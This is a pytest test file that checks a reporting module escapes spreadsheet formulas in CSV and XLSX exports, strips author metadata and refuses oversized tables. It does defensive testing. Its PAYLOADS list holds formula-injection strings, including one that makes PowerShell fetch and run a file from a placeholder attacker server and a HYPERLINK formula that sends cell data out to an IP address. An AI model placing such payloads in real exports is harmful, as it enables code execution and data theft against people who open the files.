"""Tables as files: nothing in them runs, names nobody, or is lost."""

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pandas as pd
import pytest

from vs_core.reports.tables import csv_bytes, escaped, xlsx_bytes
from vs_core.rules.excel import LONGEST_CELL, MOST_ROWS, TooLargeForExcel

PAYLOADS = [
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
    "+1+1",
    "-1+1",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
]
HARMLESS = ["Null", "NA", "O'Brien", "00123", "a=b", "http://192.0.2.1/", '{"x": 1}', "🙂 \u202e"]


def frame() -> pd.DataFrame:
    texts = [*PAYLOADS, *HARMLESS]
    return pd.DataFrame({"=name": texts, "days": -1.5, "born": date(2012, 4, 3), "spent": None})


def csv_rows() -> list[list[str]]:
    text = csv_bytes(frame()).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_escaped_in_csv(payload: str) -> None:
    assert escaped(payload) == f"'{payload}"
    assert f"'{payload}" in [row[0] for row in csv_rows()]


def test_everything_else_in_csv_stays_as_it_is() -> None:
    rows = csv_rows()
    assert rows[0] == ["'=name", "days", "born", "spent"]
    assert [row[0] for row in rows[-len(HARMLESS) :]] == HARMLESS
    assert rows[1][1:] == ["-1.5", "2012-04-03", ""]


def test_a_workbook_holds_text_as_text() -> None:
    notes = ["=1+1", "Children in care"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame(), "=Title: [a]", notes)))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert [sheet.cell(row, 1).value for row in range(6, 6 + len(PAYLOADS))] == PAYLOADS
    assert sheet.cell(6, 2).value == -1.5
    assert sheet.cell(6, 3).value.date() == date(2012, 4, 3)


def test_a_workbook_hides_nothing_and_names_nobody() -> None:
    data = xlsx_bytes(frame(), "Children")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [sheet.sheet_state for sheet in book.worksheets] == ["visible"]
    assert not book.properties.creator
    assert not book.properties.lastModifiedBy
    assert not [name for name in zipfile.ZipFile(io.BytesIO(data)).namelist() if "vba" in name or "external" in name]


def test_an_empty_table_is_a_file_with_headings() -> None:
    empty = frame().iloc[:0]
    assert csv_bytes(empty).decode("utf-8-sig").strip() == "'=name,days,born,spent"
    assert openpyxl.load_workbook(io.BytesIO(xlsx_bytes(empty, "Nobody"))).active["A1"].value == "Nobody"


TOO_LARGE = {
    "rows": pd.DataFrame({"n": range(MOST_ROWS)}),
    "cell": pd.DataFrame({"said": ["x" * (LONGEST_CELL + 1)]}),
    "heading": pd.DataFrame({"x" * (LONGEST_CELL + 1): [1]}),
}


@pytest.mark.parametrize("what", TOO_LARGE)
def test_what_excel_cannot_hold_is_refused(what: str) -> None:
    with pytest.raises(TooLargeForExcel, match=r"take it as \.csv instead"):
        xlsx_bytes(TOO_LARGE[what], "Too large")
    assert csv_bytes(TOO_LARGE[what].head(3))


def test_the_longest_text_is_written_whole() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pd.DataFrame({"said": ["x" * LONGEST_CELL]}), "Fits")))
    assert book.active["A4"].value == "x" * LONGEST_CELL
